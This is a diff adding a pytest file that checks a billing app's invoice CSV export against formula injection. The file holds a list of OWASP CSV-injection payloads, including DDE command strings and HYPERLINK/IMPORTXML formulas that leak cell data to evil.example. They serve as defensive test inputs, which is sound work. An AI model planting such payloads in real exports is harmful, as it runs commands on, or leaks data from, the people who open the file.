@@ -1,0 +1,132 @@
+"""Issue 11 (security hardening): CSV exports neutralise formula cells through one writer, the
+Stripe webhook refuses malformed events with a 400, every response carries a Permissions-Policy
+and no Server banner, and the sign-in rate limit answers 429."""
+
+import csv
+import io
+import re
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+
+from billing.models import Invoice, Payment
+from core import csv as core_csv
+from tests.billing_pages_helpers import invoice_create
+from tests.factories import CustomerFactory
+
+ROOT = Path(__file__).resolve().parent.parent
+
+# CSV injection
+
+# OWASP's CSV injection payloads (owasp.org/www-community/attacks/CSV_Injection), and each of
+# the characters a spreadsheet reads as the start of a formula.
+OWASP_PAYLOADS = [
+    "=cmd|' /C calc'!A0",
+    "=cmd|' /C notepad'!'A1'",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for details")',
+    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
+    "+1+1",
+    "-2+3",
+    "=1+1",
+    "-1+1|cmd",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\tTabbed",
+    "\rReturned",
+    "-",
+    "-12.10abc",
+    '=2+5+cmd|" /C calc"!A0',
+]
+
+
+def export_rows(client) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
+    response = client.get("/invoices/export.csv")
+    assert response.status_code == 200
+    body = b"".join(response.streaming_content).decode("utf-8")
+    return list(csv.DictReader(io.StringIO(body, newline="")))
+
+
+@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
+def test_cell_is_neutralised(payload):
+    assert core_csv.cell_neutralise(payload) == "'" + payload
+
+
+@pytest.mark.parametrize("number", ["-12.10", "-3", "0.00", "12.10", "5", "-0.50"])
+def test_plain_numbers_stay_numbers(number):
+    assert core_csv.cell_neutralise(number) == number
+
+
+def test_neutralised_cells_are_quoted():
+    line = b"".join(core_csv.lines_stream([["=1+1", "-12.10", "plain", 'say "hi", then go']]))
+    assert line == b'"\'=1+1",-12.10,plain,"say ""hi"", then go"\r\n'
+
+
+def test_invoice_export_neutralises_the_owasp_payloads(owner_client, tenant, other_tenant):
+    """Every payload, as an organisation name and as a line description, comes back with a
+    leading quote; a plain negative amount (a balance owed back) stays a number."""
+    numbers = {}
+    for payload in OWASP_PAYLOADS:
+        customer = CustomerFactory(reseller=tenant.reseller, organisation=payload)
+        invoice = invoice_create(customer, lines=1, descriptions=[payload])
+        numbers[invoice.number] = payload
+    # Paid in full, then credited in full: the 12.10 paid is owed back, a negative balance.
+    paid = invoice_create(tenant.customer, subtotal=Decimal("10.00"), status=Invoice.Status.PAID)
+    Payment.objects.create(
+        invoice=paid,
+        attempt=1,
+        gateway="manual",
+        idempotency_key=f"{paid.number}:1",
+        amount=Decimal("12.10"),
+        currency="EUR",
+        status=Payment.Status.SUCCEEDED,
+    )
+    invoice_create(
+        tenant.customer,
+        kind=Invoice.Kind.CREDIT_NOTE,
+        corrects=paid,
+        lines=0,
+        subtotal=Decimal("10.00"),
+        status=Invoice.Status.CREDITED,
+    )
+
+    rows = export_rows(owner_client)
+
+    payload_rows = [row for row in rows if row["invoice_number"] in numbers]
+    assert len(payload_rows) == len(OWASP_PAYLOADS)
+    for row in payload_rows:
+        payload = numbers[row["invoice_number"]]
+        assert row["organisation"] == "'" + payload
+        assert row["description"] == "'" + payload
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
+            if value.startswith("-"):
+                assert re.fullmatch(r"-\d+(\.\d+)?", value), (column, value)
+    (owed_back,) = [row for row in rows if row["invoice_number"] == paid.number]
+    assert owed_back["balance"] == "-12.10"
+
+
+def test_no_module_writes_csv_but_the_one_writer():
+    """Later exports go through core.csv too: nothing else calls the standard library's writer."""
+    pattern = re.compile(
+        r"\bcsv\.(writer|DictWriter)\b|from\s+csv\s+import\s+.*\b(writer|DictWriter)\b"
+    )
+    sources = [ROOT / "manage.py"] + [
+        path
+        for top in ROOT.iterdir()
+        if top.is_dir() and not top.name.startswith(".") and top.name != "node_modules"
+        for path in top.rglob("*.py")
+    ]
+    skipped = {ROOT / "core" / "csv.py", Path(__file__).resolve()}
+    offenders = [
+        str(path.relative_to(ROOT))
+        for path in sources
+        if path.exists()
+        and path not in skipped
+        and pattern.search(path.read_text(encoding="utf-8"))
+    ]
+    assert offenders == []
